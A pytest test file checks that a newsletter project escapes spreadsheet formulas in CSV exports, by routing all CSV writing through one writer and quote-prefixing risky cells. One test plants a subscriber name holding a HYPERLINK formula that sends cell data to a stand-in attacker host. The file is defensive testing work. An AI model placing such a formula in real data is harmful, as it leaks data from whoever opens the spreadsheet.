"""CSV files staff open in a spreadsheet hold data, never formulas (CSV injection).

A reader chooses their own name and an importer their provenance note; either could start
with ``=`` and run as a formula in the desk's spreadsheet. Every CSV goes through one writer.
"""

import ast
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lordspress.core.spreadsheets import FORMULA_STARTS, csv_writer, spreadsheet_cell
from newsletter.models import Subscriber
from tests.project import PROJECT_PACKAGES

ROOT = Path(__file__).resolve().parent.parent
THE_WRITER = ROOT / "lordspress" / "core" / "spreadsheets.py"


def _csv_writer_calls(path: Path) -> list[int]:
    tree = ast.parse(path.read_text(), filename=str(path))
    return [
        node.lineno
        for node in ast.walk(tree)
        if isinstance(node, ast.Attribute)
        and node.attr in {"writer", "DictWriter"}
        and isinstance(node.value, ast.Name)
        and node.value.id == "csv"
    ]


def test_no_code_writes_csv_except_through_the_safe_writer():
    offenders = []
    for app in PROJECT_PACKAGES:
        for path in (ROOT / app).rglob("*.py"):
            if path == THE_WRITER or "migrations" in path.parts:
                continue
            offenders += [f"{path.relative_to(ROOT)}:{line}" for line in _csv_writer_calls(path)]
    assert not offenders, (
        f"CSV written without lordspress.core.spreadsheets.csv_writer: {offenders}"
    )


@given(st.text())
def test_no_text_cell_reads_as_a_formula_and_none_loses_its_text(text):
    buffer = io.StringIO()
    csv_writer(buffer).writerow([text, 42, None])
    cell = next(csv.reader(io.StringIO(buffer.getvalue())))[0] if buffer.getvalue() else ""
    if text.startswith(FORMULA_STARTS):
        assert cell.startswith("'") and spreadsheet_cell(text) == "'" + text
    else:
        assert spreadsheet_cell(text) == text


@pytest.mark.django_db
def test_a_subscriber_named_like_a_formula_exports_as_text(admin_client):
    Subscriber.objects.create(
        email="formula@example.org",
        name='=HYPERLINK("https://evil.example/?"&A1,"Open")',
        provenance="+44 list from the 2026 reception",
    )
    response = admin_client.get("/admin/newsletter/subscriber/export/")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    row = next(r for r in rows if r["email"] == "formula@example.org")
    assert row["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Open")'
    assert row["provenance"] == "'+44 list from the 2026 reception"
    for value in row.values():
        assert not value.startswith(FORMULA_STARTS)
